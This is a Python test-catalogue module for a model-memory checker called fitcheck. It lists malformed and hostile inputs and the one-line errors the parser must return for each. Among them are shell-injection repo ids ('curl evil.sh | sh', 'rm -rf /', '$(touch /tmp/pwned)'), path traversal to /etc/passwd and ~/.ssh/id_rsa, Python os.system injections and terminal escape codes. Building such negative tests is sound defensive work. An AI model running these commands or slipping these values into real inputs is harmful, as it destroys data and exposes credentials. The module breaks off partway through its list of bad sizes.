"""The catalogue of hostile inputs, as data, and the helpers that check "one clear line".

Each table maps a case id to what to feed fitcheck and what it must answer: either an error
class plus a substring of its one-line message, or ``None`` for inputs that are odd but valid
and must give a correct result. The ``test_hostile_*`` modules run the tables through the real
code paths (the parser, the fake Hub, local folders, the CLI); ``test_hostile_inputs`` checks
that the catalogue, with the injected faults of ``test_faults``, holds at least 200 cases.

A safetensors case is the file's first bytes (the 8-byte length prefix and the header) and the
file's size; the fake Hub serves it as a :class:`fakehub.SparseFile`, zeros after the prefix.
"""

from __future__ import annotations

import hashlib
import json
import math
import os
import struct
import subprocess
import sys
import time
from dataclasses import dataclass
from typing import Any

from planner.core.errors import BadConfig, BadHeader, FitcheckError, UnsupportedModel
from planner.core.units import DTYPE_BITS

# A config that every header case is paired with: any tensor layout estimates under it.
CONFIG: dict[str, Any] = {"model_type": "llama", "architectures": ["LlamaForCausalLM"], "hidden_size": 64, "num_attention_heads": 4,
                          "num_key_value_heads": 2, "num_hidden_layers": 1, "vocab_size": 100, "intermediate_size": 128,
                          "tie_word_embeddings": True, "max_position_embeddings": 512}


# --------------------------------------------------------------------------------------------
# safetensors headers
# --------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class HeaderCase:
    """A safetensors file: ``prefix`` (length prefix + header) followed by zeros up to ``size``.

    Attributes:
        error: the error class expected, or None when the file is valid and must parse.
        needle: a substring the one-line message must hold (the field, in words).
        hub: whether the fake Hub can serve it (it parses headers itself for the model info, and
            a header nested 100,000 deep overflows its stack; our reader is tested locally then).
        tensors: for valid cases, how many tensors the parse must return.
    """

    prefix: bytes
    size: int
    error: type[FitcheckError] | None
    needle: str = ""
    hub: bool = True
    tensors: int | None = None


_F32x2 = {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}


def st(header: bytes | dict[str, Any] | str, *, data: int | None = None, extra: int = 0, length: int | None = None) -> tuple[bytes, int]:
    """(prefix, file size) of a safetensors file with ``header``.

    ``data`` is the size of the data region (default: the largest end offset the header names,
    when it can be read); ``extra`` bytes are added to the file; ``length`` overrides the prefix.
    """
    raw = header if isinstance(header, bytes) else (header.encode() if isinstance(header, str) else json.dumps(header).encode())
    if data is None:
        data = _data_end(raw)
    prefix = struct.pack("<Q", len(raw) if length is None else length) + raw
    return prefix, len(prefix) + data + extra


def _data_end(raw: bytes) -> int:
    try:
        obj = json.loads(raw)
    except (ValueError, RecursionError):
        return 0
    end = 0
    if isinstance(obj, dict):
        for value in obj.values():
            offsets = value.get("data_offsets") if isinstance(value, dict) else None
            if isinstance(offsets, list) and len(offsets) == 2 and all(type(o) is int for o in offsets) and 0 <= offsets[1] < 2**40:
                end = max(end, offsets[1])
    return end


def _hc(header: Any, error: type[FitcheckError] | None, needle: str = "", *, hub: bool = True, tensors: int | None = None, **kw: Any) -> HeaderCase:
    prefix, size = st(header, **kw)
    return HeaderCase(prefix, size, error, needle, hub, tensors)


def _w(**changes: Any) -> dict[str, Any]:
    """One tensor "w" whose entry is the valid F32[2] one with ``changes`` (None deletes a key)."""
    entry = {**_F32x2, **changes}
    return {"w": {k: v for k, v in entry.items() if v is not None}}


def _tiled(tensors: dict[str, tuple[str, list[int]]]) -> dict[str, Any]:
    """A valid header: the tensors laid out one after the other."""
    out, offset = {}, 0
    for name, (dtype, shape) in tensors.items():
        n = DTYPE_BITS[dtype] * math.prod(shape) // 8
        out[name] = {"dtype": dtype, "shape": shape, "data_offsets": [offset, offset + n]}
        offset += n
    return out


def _padded(n: int) -> HeaderCase:
    """A valid header padded with spaces to exactly ``n`` bytes (the 100,000-byte boundary)."""
    raw = json.dumps({"__metadata__": {"format": "pt"}, "model.embed_tokens.weight": {"dtype": "BF16", "shape": [100, 64],
                                                                                      "data_offsets": [0, 12800]}}).encode()
    raw += b" " * (n - len(raw))
    return _hc(raw, None, tensors=1)


HEADERS: dict[str, HeaderCase] = {
    # -- the 8-byte length prefix -----------------------------------------------------------------
    "len-zero": HeaderCase(struct.pack("<Q", 0) + b"{}", 10, BadHeader, "header length 0 is too small"),
    "len-one": HeaderCase(struct.pack("<Q", 1) + b"{", 9, BadHeader, "header length 1 is too small"),
    "len-2^63": HeaderCase(struct.pack("<Q", 2**63) + b"{}", 10, BadHeader, "exceeds the 100 MB"),
    "len-2^64-1": HeaderCase(struct.pack("<Q", 2**64 - 1) + b"{}", 10, BadHeader, "exceeds the 100 MB"),
    "len-100MB+1": HeaderCase(struct.pack("<Q", 100_000_001) + b"{}", 10, BadHeader, "exceeds the 100 MB"),
    "len-100MB-in-a-small-file": HeaderCase(struct.pack("<Q", 100_000_000) + b"{}", 100, BadHeader, "runs past the end"),
    "len-past-file-end": HeaderCase(struct.pack("<Q", 1000) + b"{}", 500, BadHeader, "runs past the end of the 500-byte file"),
    "len-one-past-file-end": HeaderCase(struct.pack("<Q", 3) + b"{}", 10, BadHeader, "runs past the end"),
    "file-7-bytes": HeaderCase(b"\x02" + b"\0" * 6, 7, BadHeader, "too short for a safetensors header"),
    "file-empty": HeaderCase(b"", 0, BadHeader, "too short for a safetensors header"),
    "no-prefix-json-first": HeaderCase(b'{"w": {"dtype": "F32"}}', 23, BadHeader, "header length"),
    "len-covers-nul-padding": HeaderCase(struct.pack("<Q", 16) + b"{}" + b"\0" * 14, 24, BadHeader, "not valid JSON"),
    # -- the header as JSON ------------------------------------------------------------------------
    "not-json": _hc(b"{not json", BadHeader, "not valid JSON"),
    "json-truncated": _hc(b'{"w": {"dtype": "F32"', BadHeader, "not valid JSON"),
    "not-utf8": _hc(b'{"\xff": 1}', BadHeader, "not UTF-8"),
    "utf8-bom": _hc(b'\xef\xbb\xbf{}', BadHeader, "does not start with a JSON object"),
    "utf16": _hc("{}".encode("utf-16"), BadHeader, "not UTF-8"),
    "json-array": _hc(b"[1, 2]", BadHeader, "does not start with a JSON object"),
    "json-string": _hc(b'"x"', BadHeader, "does not start with a JSON object"),
    "json-number": _hc(b"42", BadHeader, "does not start with a JSON object"),
    "json-null": _hc(b"null", BadHeader, "does not start with a JSON object"),
    "json-true": _hc(b"true", BadHeader, "does not start with a JSON object"),
    "only-spaces": _hc(b"        ", BadHeader, "does not start with a JSON object"),
    "deeply-nested-arrays": _hc(b'{"a":' + b"[" * 100_000 + b"]" * 100_000 + b"}", BadHeader, "nested too deeply", hub=False),
    "deeply-nested-objects": _hc(b'{"a":' * 50_000 + b"1" + b"}" * 50_000, BadHeader, "nested too deeply", hub=False),
    "duplicate-keys": _hc(b'{"w":' + json.dumps(_F32x2).encode() + b',"w":' + json.dumps(_F32x2).encode() + b"}", BadHeader, "duplicate key"),
    "trailing-garbage": _hc(b"{}xyz", BadHeader, "not valid JSON"),
    "two-objects": _hc(b"{}{}", BadHeader, "not valid JSON"),
    "nan-tensor": _hc(b'{"w": NaN}', BadHeader, "is a JSON float, not an object"),
    "control-char-in-name": _hc(b'{"w\x01": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}', BadHeader, "not valid JSON"),
    "huge-integer-literal": _hc('{"w": {"dtype": "F32", "shape": [1' + "0" * 5000 + '], "data_offsets": [0, 8]}}', BadHeader, "not valid JSON"),
    # -- one tensor entry --------------------------------------------------------------------------
    "tensor-is-list": _hc({"w": [1]}, BadHeader, "is a JSON list, not an object"),
    "tensor-is-string": _hc({"w": "x"}, BadHeader, "is a JSON str, not an object"),
    "tensor-is-null": _hc({"w": None}, BadHeader, "is a JSON NoneType, not an object"),
    "tensor-is-number": _hc({"w": 3}, BadHeader, "is a JSON int, not an object"),
    "dtype-unknown": _hc(_w(dtype="F128"), BadHeader, "field 'dtype': unknown dtype 'F128'"),
    "dtype-lowercase": _hc(_w(dtype="bf16"), BadHeader, "field 'dtype': unknown dtype 'bf16'"),
    "dtype-empty": _hc(_w(dtype=""), BadHeader, "field 'dtype'"),
    "dtype-int": _hc(_w(dtype=7), BadHeader, "field 'dtype'"),
    "dtype-null": _hc({"w": {"dtype": None, "shape": [2], "data_offsets": [0, 8]}}, BadHeader, "field 'dtype'"),
    "dtype-list": _hc(_w(dtype=["F32"]), BadHeader, "field 'dtype'"),
    "dtype-missing": _hc({"w": {"shape": [2], "data_offsets": [0, 8]}}, BadHeader, "field 'dtype'"),
    "dtype-padded": _hc(_w(dtype=" F32"), BadHeader, "field 'dtype'"),
    "dtype-10k-chars": _hc(_w(dtype="F" * 10_000), BadHeader, "field 'dtype'"),
    "dtype-terminal-escape": _hc(_w(dtype="\x1b[2J"), BadHeader, "field 'dtype'"),
    "shape-negative": _hc(_w(shape=[-2]), BadHeader, "field 'shape': '-2' is not a non-negative integer"),
    "shape-float": _hc(_w(shape=[2.0]), BadHeader, "field 'shape'"),
    "shape-fraction": _hc(_w(shape=[2.5]), BadHeader, "field 'shape'"),
    "shape-bool": _hc(_w(shape=[True]), BadHeader, "field 'shape'"),
    "shape-string": _hc(_w(shape=["2"]), BadHeader, "field 'shape'"),
    "shape-null-dim": _hc(_w(shape=[None]), BadHeader, "field 'shape'"),
    "shape-nested": _hc(_w(shape=[[2]]), BadHeader, "field 'shape'"),
    "shape-not-list": _hc(_w(shape=2), BadHeader, "field 'shape'"),
    "shape-dict": _hc(_w(shape={"0": 2}), BadHeader, "field 'shape'"),
    "shape-missing": _hc({"w": {"dtype": "F32", "data_offsets": [0, 8]}}, BadHeader, "field 'shape'"),
    "shape-rank-9": _hc(_w(shape=[1] * 9), BadHeader, "field 'shape' must be a list of at most 8"),
    "shape-rank-100k": _hc(_w(shape=[1] * 100_000), BadHeader, "field 'shape' must be a list of at most 8"),
    "shape-2^40-squared": _hc(_w(shape=[2**40, 2**40]), BadHeader, "overflows"),
    "shape-2^63": _hc(_w(shape=[2**63]), BadHeader, "overflows"),
    "shape-2^64": _hc(_w(shape=[2**64]), BadHeader, "overflows"),
    "shape-2^100-by-steps": _hc(_w(shape=[2**25] * 4), BadHeader, "overflows"),
    "shape-zero-then-huge": _hc(_w(shape=[0, 2**200], data_offsets=[0, 0]), BadHeader, "field 'shape'"),
    "offsets-too-short": _hc(_w(data_offsets=[0, 4]), BadHeader, "field 'data_offsets' spans 4 bytes, but shape [2] of F32 needs 8"),
    "offsets-too-long": _hc(_w(data_offsets=[0, 16]), BadHeader, "needs 8"),
    "offsets-reversed": _hc(_w(data_offsets=[8, 0]), BadHeader, "field 'data_offsets'"),
    "offsets-negative": _hc(_w(data_offsets=[-8, 0]), BadHeader, "field 'data_offsets' must be two non-negative integers"),
    "offsets-three": _hc(_w(data_offsets=[0, 4, 8]), BadHeader, "field 'data_offsets' must be two"),
    "offsets-one": _hc(_w(data_offsets=[8]), BadHeader, "field 'data_offsets' must be two"),
    "offsets-empty": _hc(_w(data_offsets=[]), BadHeader, "field 'data_offsets' must be two"),
    "offsets-floats": _hc(_w(data_offsets=[0.0, 8.0]), BadHeader, "field 'data_offsets' must be two"),
    "offsets-strings": _hc(_w(data_offsets=["0", "8"]), BadHeader, "field 'data_offsets' must be two"),
    "offsets-bools": _hc(_w(data_offsets=[False, True]), BadHeader, "field 'data_offsets' must be two"),
    "offsets-null": _hc({"w": {"dtype": "F32", "shape": [2], "data_offsets": None}}, BadHeader, "field 'data_offsets'"),
    "offsets-missing": _hc({"w": {"dtype": "F32", "shape": [2]}}, BadHeader, "field 'data_offsets'"),
    "offsets-dict": _hc(_w(data_offsets={"begin": 0, "end": 8}), BadHeader, "field 'data_offsets'"),
    "offsets-2^70": _hc(_w(data_offsets=[2**70, 2**70 + 8]), BadHeader, "field 'data_offsets' leaves a gap"),
    "offsets-2^64-wrap": _hc(_w(data_offsets=[2**64 - 4, 4]), BadHeader, "field 'data_offsets'"),
    "overlap-same": _hc({"a": _F32x2, "b": _F32x2}, BadHeader, "field 'data_offsets' overlaps the previous tensor"),
    "overlap-partial": _hc({"a": _F32x2, "b": {"dtype": "F32", "shape": [2], "data_offsets": [4, 12]}}, BadHeader, "overlaps"),
    "overlap-contained": _hc({"a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}, "b": {"dtype": "F32", "shape": [1], "data_offsets": [4, 8]}},
                             BadHeader, "overlaps"),
    "gap-between": _hc({"a": _F32x2, "b": {"dtype": "F32", "shape": [2], "data_offsets": [16, 24]}}, BadHeader, "leaves a gap of 8 bytes"),
    "gap-at-start": _hc(_w(data_offsets=[8, 16]), BadHeader, "leaves a gap of 8 bytes"),
    "data-past-file-end": _hc(_w(), BadHeader, "tensor data runs past the end of the file", data=4),
    "data-missing-entirely": _hc(_w(), BadHeader, "tensor data runs past the end of the file", data=0),
    "trailing-data": _hc(_w(), BadHeader, "bytes after the last tensor are not described", extra=64),
    "metadata-list": _hc({"__metadata__": [1], **_w()}, BadHeader, "field '__metadata__' must map strings to strings"),
    "metadata-number": _hc({"__metadata__": 1, **_w()}, BadHeader, "field '__metadata__'"),
    "metadata-string": _hc({"__metadata__": "pt", **_w()}, BadHeader, "field '__metadata__'"),
    "metadata-nested": _hc({"__metadata__": {"a": {"b": "c"}}, **_w()}, BadHeader, "field '__metadata__'"),
    "metadata-int-value": _hc({"__metadata__": {"a": 1}, **_w()}, BadHeader, "field '__metadata__'"),
    "metadata-null-value": _hc({"__metadata__": {"a": None}, **_w()}, BadHeader, "field '__metadata__'"),
    "metadata-looks-like-tensor": _hc({"__metadata__": _F32x2}, BadHeader, "field '__metadata__'"),
    "f4-half-byte": _hc({"w": {"dtype": "F4", "shape": [3], "data_offsets": [0, 2]}}, BadHeader, "not a whole number of bytes"),
    "f6-odd-bits": _hc({"w": {"dtype": "F6_E2M3", "shape": [3], "data_offsets": [0, 3]}}, BadHeader, "not a whole number of bytes"),
    "zero-size-tensor-claims-bytes": _hc(_w(shape=[0]), BadHeader, "needs 0"),
    "name-10k-chars": _hc({"x" * 10_000: _F32x2}, BadHeader, "name is 10000 characters"),
    "name-5000-digit-layer": _hc({"model.layers." + "1" * 5000 + ".w": _F32x2}, BadHeader, "name is 5015 characters"),
    "name-1024-chars-bad-dtype": _hc({"x" * 1024: {**_F32x2, "dtype": "Q"}}, BadHeader, "field 'dtype'"),
    # -- odd but valid: must parse exactly ----------------------------------------------------------
    "ok-missing-metadata": _hc(_w(), None, tensors=1),
    "ok-empty-metadata": _hc({"__metadata__": {}, **_w()}, None, tensors=1),
    "ok-scalar": _hc({"w": {"dtype": "F32", "shape": [], "data_offsets": [0, 4]}}, None, tensors=1),
    "ok-zero-size": _hc({"e": {"dtype": "F32", "shape": [0, 5], "data_offsets": [0, 0]}, **_w()}, None, tensors=2),
    "ok-out-of-order": _hc({"b": {"dtype": "F32", "shape": [2], "data_offsets": [8, 16]}, "a": _F32x2}, None, tensors=2),
    "ok-f4-packed": _hc({"w": {"dtype": "F4", "shape": [4, 6], "data_offsets": [0, 12]}}, None, tensors=1),
    "ok-every-dtype": _hc(_tiled({f"t_{d}": (d, [8]) for d in sorted(DTYPE_BITS)}), None, tensors=len(DTYPE_BITS)),
    "ok-unicode-names": _hc({"模型.层.0.weight": _F32x2, "🙂.bias": {"dtype": "F32", "shape": [1], "data_offsets": [8, 12]}}, None, tensors=2),
    "ok-lone-surrogate-name": _hc(b'{"\\ud800": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}', None, tensors=1),
    "ok-escape-sequence-name": _hc({"\x1b[2J\x1b[31mevil": _F32x2}, None, tensors=1),
    "ok-code-looking-name": _hc({"'); import os; os.system('echo pwned') #": _F32x2}, None, tensors=1),
    "ok-whitespace-json": _hc(b'\n\t {"w" :\n {"dtype":"F32","shape":[ 2 ],"data_offsets":[0,8]}}\n', None, tensors=1),
    "ok-boundary-99992": _padded(99_992),
    "ok-boundary-99993": _padded(99_993),
    "ok-boundary-99994": _padded(99_994),
    "ok-boundary-99999": _padded(99_999),
    "ok-boundary-100000": _padded(100_000),
    "ok-boundary-100001": _padded(100_001),
    "ok-boundary-100008": _padded(100_008),
    "ok-header-1MB": _padded(1_000_000),
    "ok-no-tensors": _hc(b"{}", UnsupportedModel, "describe no tensors"),
    "ok-metadata-only": _hc({"__metadata__": {"format": "pt"}}, UnsupportedModel, "describe no tensors"),
}


# --------------------------------------------------------------------------------------------
# config.json
# --------------------------------------------------------------------------------------------

# id -> (config.json bytes or a dict merged into CONFIG (None values delete keys), error, needle).
# ``MISSING`` means the repo has no config.json at all.
MISSING = object()


def _cfg(**changes: Any) -> dict[str, Any]:
    out = dict(CONFIG)
    for k, v in changes.items():
        if v is None:
            out.pop(k, None)
        else:
            out[k] = v
    return out


def _nested(depth: int) -> Any:
    value: Any = 1
    for _ in range(depth):
        value = [value]
    return value


CONFIGS: dict[str, tuple[Any, type[FitcheckError] | None, str]] = {
    "missing": (MISSING, BadConfig, "config.json"),
    "not-json": (b"{model_type: llama", BadConfig, "config.json of {repo}: is not valid JSON"),
    "empty-file": (b"", BadConfig, "is not valid JSON"),
    "not-utf8": (b'{"model_type": "\xff"}', BadConfig, "is not valid JSON"),
    "json-array": (b"[]", BadConfig, "is a JSON list, not an object"),
    "json-string": (b'"llama"', BadConfig, "is a JSON str, not an object"),
    "json-null": (b"null", BadConfig, "is a JSON NoneType, not an object"),
    "empty-object": (b"{}", BadConfig, "neither 'model_type' nor 'architectures'"),
    "deeply-nested": (b'{"a":' + b"[" * 100_000 + b"]" * 100_000 + b"}", BadConfig, "not valid JSON"),
    "nested-100-levels": (_cfg(extra=_nested(100)), BadConfig, "nested more than 32 levels"),
    "nested-quantization-config": (_cfg(quantization_config={"quant_method": "fp8", "x": _nested(600)}), BadConfig, "nested more than"),
    "huge-integer-literal": (b'{"num_hidden_layers": 1' + b"0" * 5000 + b"}", BadConfig, "not valid JSON"),
    "layers-missing": (_cfg(num_hidden_layers=None), BadConfig, "required field 'num_hidden_layers' is missing"),
    "hidden-missing": (_cfg(hidden_size=None), BadConfig, "required field 'hidden_size' is missing"),
    "heads-missing": (_cfg(num_attention_heads=None), BadConfig, "required field 'num_attention_heads' is missing"),
    "vocab-missing": (_cfg(vocab_size=None), BadConfig, "required field 'vocab_size' is missing"),
    "layers-zero": (_cfg(num_hidden_layers=0), BadConfig, "field 'num_hidden_layers' = 0 is outside any real model's range"),
    "layers-negative": (_cfg(num_hidden_layers=-1), BadConfig, "field 'num_hidden_layers' = -1"),
    "layers-10^9": (_cfg(num_hidden_layers=10**9), BadConfig, "field 'num_hidden_layers'"),
    "layers-float": (_cfg(num_hidden_layers=1.5), BadConfig, "field 'num_hidden_layers' must be an integer"),
    "layers-string": (_cfg(num_hidden_layers="1"), BadConfig, "field 'num_hidden_layers' must be an integer"),
    "layers-bool": (_cfg(num_hidden_layers=True), BadConfig, "field 'num_hidden_layers' must be an integer"),
    "layers-list": (_cfg(num_hidden_layers=[1]), BadConfig, "field 'num_hidden_layers' must be an integer"),
    "layers-1e308": (_cfg(num_hidden_layers=1e308), BadConfig, "field 'num_hidden_layers'"),
    "layers-infinity": (b'{"model_type": "llama", "num_hidden_layers": Infinity}', BadConfig, "field 'num_hidden_layers' must be an integer"),
    "layers-nan": (b'{"model_type": "llama", "num_hidden_layers": NaN}', BadConfig, "field 'num_hidden_layers' must be an integer"),
    "heads-10^12": (_cfg(num_attention_heads=10**12), BadConfig, "field 'num_attention_heads' = 1000000000000"),
    "heads-zero": (_cfg(num_attention_heads=0), BadConfig, "field 'num_attention_heads' = 0"),
    "hidden-zero": (_cfg(hidden_size=0), BadConfig, "field 'hidden_size' = 0"),
    "hidden-10^12": (_cfg(hidden_size=10**12), BadConfig, "field 'hidden_size'"),
    "vocab-zero": (_cfg(vocab_size=0), BadConfig, "field 'vocab_size' = 0"),
    "vocab-2^64": (_cfg(vocab_size=2**64), BadConfig, "field 'vocab_size'"),
    "kv-heads-exceed-heads": (_cfg(num_key_value_heads=8), BadConfig, "field 'num_key_value_heads' (8) exceeds num_attention_heads (4)"),
    "kv-heads-zero": (_cfg(num_key_value_heads=0), BadConfig, "field 'num_key_value_heads' = 0"),
    "head-dim-indivisible": (_cfg(hidden_size=65), BadConfig, "hidden_size 65 is not divisible by num_attention_heads 4"),
    "head-dim-zero": (_cfg(head_dim=0), BadConfig, "field 'head_dim' = 0"),
    "intermediate-negative": (_cfg(intermediate_size=-5), BadConfig, "field 'intermediate_size' = -5"),
    "context-2^40": (_cfg(max_position_embeddings=2**40), BadConfig, "field 'max_position_embeddings'"),
    "sliding-window-negative": (_cfg(sliding_window=-1), BadConfig, "field 'sliding_window' = -1"),
    "sliding-window-2^40": (_cfg(sliding_window=2**40), BadConfig, "field 'sliding_window'"),
    "layer-types-wrong-length": (_cfg(layer_types=["full_attention"] * 3), BadConfig, "field 'layer_types' must list one string per layer"),
    "layer-types-not-list": (_cfg(layer_types="full_attention"), BadConfig, "field 'layer_types'"),
    "experts-per-token-exceed": (_cfg(num_local_experts=2, num_experts_per_tok=4), BadConfig, "field 'num_experts_per_tok' (4) exceeds"),
    "experts-10^9": (_cfg(num_local_experts=10**9), BadConfig, "field 'num_local_experts'"),
    "model-type-not-string": (_cfg(model_type=7), BadConfig, "field 'model_type' must be a short name"),
    "model-type-escape": (_cfg(model_type="llama\x1b[2J"), BadConfig, "field 'model_type' must be a short name"),
    "model-type-long": (_cfg(model_type="l" * 5000), BadConfig, "field 'model_type' must be a short name"),
    "model-type-code": (_cfg(model_type="__import__('os').system('x')"), BadConfig, "field 'model_type'"),
    "model-type-newline": (_cfg(model_type="llama\n"), BadConfig, "field 'model_type'"),
    "architectures-newline": (_cfg(architectures=["LlamaForCausalLM\n"]), BadConfig, "field 'architectures'"),
    "encdec-decoder-layers-16384": ({"model_type": "t5", "is_encoder_decoder": True, "d_model": 64, "num_heads": 4, "num_layers": 2,
                                     "num_decoder_layers": 16384, "vocab_size": 100, "d_kv": 16}, BadConfig, "field 'num_decoder_layers' = 16384"),
    "encdec-decoder-heads-10^12": ({"model_type": "bart", "d_model": 64, "num_attention_heads": 4, "decoder_attention_heads": 10**12,
                                    "num_hidden_layers": 2, "vocab_size": 100}, BadConfig, "field 'decoder_attention_heads'"),
    "mla-v-head-dim-2^40": (_cfg(model_type="deepseek_v3", kv_lora_rank=32, qk_nope_head_dim=16, qk_rope_head_dim=8, v_head_dim=2**40),
                            BadConfig, "field 'v_head_dim'"),
    "architectures-string": (_cfg(architectures="LlamaForCausalLM"), BadConfig, "field 'architectures' must be a list of class names"),
    "architectures-ints": (_cfg(architectures=[1]), BadConfig, "field 'architectures'"),
    "architectures-code": (_cfg(architectures=["Llama'); import os #"]), BadConfig, "field 'architectures'"),
    "architectures-escape": (_cfg(architectures=["\x1b]0;pwned\x07"]), BadConfig, "field 'architectures'"),
    "torch-dtype-int": (_cfg(torch_dtype=16), BadConfig, "field 'torch_dtype'"),
    "torch-dtype-escape": (_cfg(torch_dtype="\x1b[31mbfloat16"), BadConfig, "field 'torch_dtype'"),
    "quantization-config-list": (_cfg(quantization_config=[1]), BadConfig, "field 'quantization_config' must be an object"),
    "quantization-no-method": (_cfg(quantization_config={"bits": 4}), BadConfig, "quantization_config has no 'quant_method'"),
    "quantization-unknown-method": (_cfg(quantization_config={"quant_method": "evil"}), UnsupportedModel, "quantization method 'evil'"),
    "quantization-bad-bits": (_cfg(quantization_config={"quant_method": "gptq", "bits": 5}), BadConfig, "'bits' = '5'"),
    "recurrent-mamba": (_cfg(model_type="mamba"), UnsupportedModel, "keeps a recurrent state"),
    "text-config-recurrent": (_cfg(model_type="llava", text_config={"model_type": "jamba"}), UnsupportedModel, "recurrent state"),
    "text-config-zero-layers": (_cfg(model_type="llava", text_config={**CONFIG, "num_hidden_layers": 0}), BadConfig, "num_hidden_layers"),
    "mla-missing-rope-dim": (_cfg(model_type="deepseek_v3", kv_lora_rank=32, qk_nope_head_dim=16, v_head_dim=16), BadConfig,
                             "'qk_rope_head_dim' is missing"),
    "mla-rank-zero": (_cfg(model_type="deepseek_v3", kv_lora_rank=0, qk_nope_head_dim=16, qk_rope_head_dim=8, v_head_dim=16), BadConfig,
                      "field 'kv_lora_rank' = 0"),
    # odd but valid: must estimate
    "ok-remote-code-type": (_cfg(model_type="evilmodel", architectures=["EvilForCausalLM"],
                                 auto_map={"AutoModelForCausalLM": "modeling_evil.EvilForCausalLM"}), None, ""),
    "ok-unknown-extra-fields": (_cfg(foo={"bar": [1, 2, {"baz": None}]}, transformers_version="9.9.9"), None, ""),
    "ok-integral-floats": (_cfg(num_hidden_layers=1.0, hidden_size=64.0), None, ""),
    "ok-gpt2-aliases": ({"model_type": "gpt2", "architectures": ["GPT2LMHeadModel"], "n_layer": 1, "n_embd": 64, "n_head": 4,
                         "vocab_size": 100, "n_positions": 512}, None, ""),
    "ok-architectures-only": (_cfg(model_type=None), None, ""),
    "ok-sliding-window-zero": (_cfg(sliding_window=0), None, ""),  # some configs save 0 for "no window"
}


# The fake Hub summarises config.json for the model info with a plain json.loads, which a
# 100,000-deep nesting overflows: that case is read from a local folder only.
CONFIGS_NOT_ON_HUB = {"deeply-nested"}


# --------------------------------------------------------------------------------------------
# model.safetensors.index.json: shard names that try to leave the repo, and broken indexes
# --------------------------------------------------------------------------------------------

# id -> (the index's bytes, or the value of "w"'s weight_map entry, needle). All are BadHeader.
_SHARD_OK = "model-00001-of-00001.safetensors"
INDEXES: dict[str, tuple[Any, str]] = {
    "dotdot": ("../../etc/passwd", "is not a plain path inside the repo"),
    "dotdot-middle": ("a/../model-00001-of-00001.safetensors", "is not a plain path inside the repo"),
    "dotdot-end": (_SHARD_OK + "/..", "is not a plain path inside the repo"),
    "dot": (".", "is not a plain path inside the repo"),
    "absolute": ("/etc/passwd", "is not a plain path inside the repo"),
    "home": ("~/.ssh/id_rsa", "is not a plain path inside the repo"),
    "windows": ("C:\\x.safetensors", "is not a plain path inside the repo"),
    "backslash-dotdot": ("..\\..\\x.safetensors", "is not a plain path inside the repo"),
    "nul": (_SHARD_OK + "\x00.txt", "is not a plain path inside the repo"),
    "newline": (_SHARD_OK + "\nx", "is not a plain path inside the repo"),
    "empty": ("", "is not a plain path inside the repo"),
    "double-slash": ("a//" + _SHARD_OK, "is not a plain path inside the repo"),
    "url": ("https://evil.example/x.safetensors", "is not a plain path inside the repo"),
    "percent": ("%2e%2e/x.safetensors", "is not a plain path inside the repo"),
    "shell": ("$(id).safetensors", "is not a plain path inside the repo"),
    "very-long": ("x" * 600 + ".safetensors", "is not a plain path inside the repo"),
    "not-listed": ("model-00009-of-00009.safetensors", "which the"),
    "non-string": (5, "field 'weight_map'"),
    "weight-map-missing": (b'{"metadata": {}}', "field 'weight_map' is missing or empty"),
    "weight-map-empty": (b'{"weight_map": {}}', "field 'weight_map' is missing or empty"),
    "weight-map-list": (b'{"weight_map": ["a"]}', "field 'weight_map' is missing or empty"),
    "index-not-json": (b"{weight_map", "is not valid JSON"),
    "index-array": (b"[]", "is a JSON list, not an object"),
    "index-nested": (b'{"weight_map":' + b"[" * 100_000 + b"]" * 100_000 + b"}", "is not valid JSON"),
}


# --------------------------------------------------------------------------------------------
# Command-line values: repo ids, revisions, sizes, profiles
# --------------------------------------------------------------------------------------------

# Repo ids with shell or Python metacharacters, path tricks and lookalikes: all refused before
# any request, as "not a Hub repo id".
BAD_REPO_IDS = [
    "bad repo; rm -rf /", "org/m; rm -rf ~", "org/m && curl evil.sh | sh", "org/m | cat /etc/passwd", "$(touch /tmp/pwned)",
    "`touch /tmp/pwned`", "org/${HOME}", "org/m > /tmp/out", "org/m\nsecond-line", "org/m\r", "org/m\t", " org/m", "org/m ",
    "__import__('os').system('x')", "org/m');import os;os.system('x')#", 'org/m"', "org/m'", "{org}/{m}", "org/m#frag",
    "org/m?x=1", "org/m%2F..", "org/../../etc", "org/..", "org/.", "org//m", "org/m/extra",
    "org/m--x", "org/-m", "-org/m", "org/m.git", "org/m.", "org/" + "m" * 97, "o" * 97 + "/m", "", "org/m\x00", "org/m\x1b[2J",
    "org/m\u202egnp.exe", "org/ｍ", "org/m*", "org/m[0]", "org\\m", "org/m~", "org/m@main", "org/m:latest", "http://evil/m",
    "org/m\n", "org/m\n\n", "gpt2\n",
]
# Path-like ids (they start like a path): a folder that does not exist, whatever it is made of.
BAD_PATHS = ["../org/m", "./nope;rm -rf /", "/nonexistent/../../etc", "~no-such-user-xyz/m", "./$(id)"]

BAD_REVISIONS = [
    "../../etc", "..", "main/..", "refs/pr/1/../../x", "main..other", "/main", "main/", "main//x", "-main", ".hidden",
    "main;rm -rf /", "$(id)", "`id`", "main branch", "main\n", "ma\x00in", "main~1", "main^", "main:x", "ma?in", "ma*in",
    "ma[in", "ma\\in", "x.lock", "r" * 300, "main%2F..", "\x1b[2J", "0" * 40 + "\n", "v1.0\n",
]

BAD_SIZES = [
    ("--gpu", "12XB", "is not a size"), ("--gpu", "-4GiB", "is not a size"), ("--gpu", "0", "has no unit"),
    ("--gpu", "0GiB", "larger than zero"), ("--gpu", "24GiB,", "not a comma-separated list"), ("--gpu", ",24GiB", "not a comma-separated list"),
    ("--gpu", "24GiB,,24GiB", "not a comma-separated list"), ("--gpu", "1e9", "is not a size"), ("--gpu", "nan", "is not a size"),
    ("--gpu", "inf", "is not a size"), ("--gpu", "0x10GB", "is not a size"), ("--gpu", "24 GiB GiB", "is not a size"),
    ("--gpu", "1.5.5GB", "is not a size"), ("--gpu", "٣GB", "is not a size"), ("--gpu", "2EiB", "is not a size"),
    ("--gpu", "2000PiB", "larger than any machine"), ("--gpu", "24GiB;rm -rf /", "is not a size"), ("--ram", "-1", "is not a size"),
    ("--ram", "0.1", "has no unit"), ("--ram", "0.1B", "larger than zero"), ("--ram", "lots", "is not a size"), ("--ram", "", "is empty"), ("--disk", "12XB", "is not a size"),
    ("--disk", "-1TB", "is not a size"), ("--gpu", "", "is empty"), ("--gpu", " ", "is empty"),
